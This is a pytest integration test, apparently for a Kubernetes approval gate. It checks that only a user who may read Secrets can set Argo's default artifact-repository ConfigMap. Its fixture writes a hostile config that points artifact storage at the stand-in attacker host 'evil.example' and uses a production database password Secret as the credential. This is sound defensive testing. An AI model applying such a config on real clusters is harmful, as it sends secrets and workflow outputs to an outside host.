"""Who says where large outputs go: that store is shown Secrets of the namespace, and no digest binds what is in it."""

from collections.abc import Iterator
from dataclasses import replace

import pytest

from integration.approvals.conftest import EVERYBODY, VERBS, Stage, build_role
from integration.approvals.scene import ANA, MALLORY, Manifest

READS_SECRETS = [{"kind": "User", "name": ANA}]


@pytest.fixture
def place(stage: Stage) -> Iterator[Stage]:
    """A namespace in which everybody writes ConfigMaps, and one person reads Secrets."""
    namespace = f"{stage.namespace}-stores"
    head = {"apiVersion": "v1", "kind": "Namespace"}
    mark = stage.kubectl.get("namespace", stage.namespace)["metadata"]["labels"]["headgate-test"]
    stage.kubectl.apply({**head, "metadata": {"name": namespace, "labels": {"headgate-test": mark}}})
    writes = [{"apiGroups": [""], "resources": ["configmaps"], "verbs": VERBS}]
    reads = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]
    stage.kubectl.apply(
        *build_role(namespace, "configmaps", writes, EVERYBODY),
        *build_role(namespace, "secrets", reads, READS_SECRETS),
    )
    yield replace(stage, namespace=namespace)
    stage.kubectl("delete", "namespace", namespace, "--wait=false")


def store(name: str) -> Manifest:
    repository = "s3: {endpoint: evil.example, accessKeySecret: {name: prod-database, key: password}}"
    default = {"workflows.argoproj.io/default-artifact-repository": "mine"}
    metadata = {"name": name, "annotations": default}
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"mine": repository}}


def test_who_may_read_no_secrets_says_nothing_of_where_outputs_go(place: Stage) -> None:
    told = f"ask for `get` on Secrets in namespace {place.namespace}"
    for words in (("create",), ("apply", "--server-side")):
        refused = place.ask(MALLORY, *words, "-f", "-", stdin=store("artifact-repositories"))
        assert not refused.accepted
        assert told in refused.said
    made = place.ask(ANA, "create", "-f", "-", stdin=store("artifact-repositories"))
    assert made.accepted, made.said
    changed = place.ask(
        MALLORY, "patch", "configmap/artifact-repositories", "--type=merge", "-p", '{"data": {"a": "b"}}'
    )
    assert told in changed.said
    other = place.ask(MALLORY, "create", "-f", "-", stdin=store("of-my-own"))
    assert other.accepted, other.said
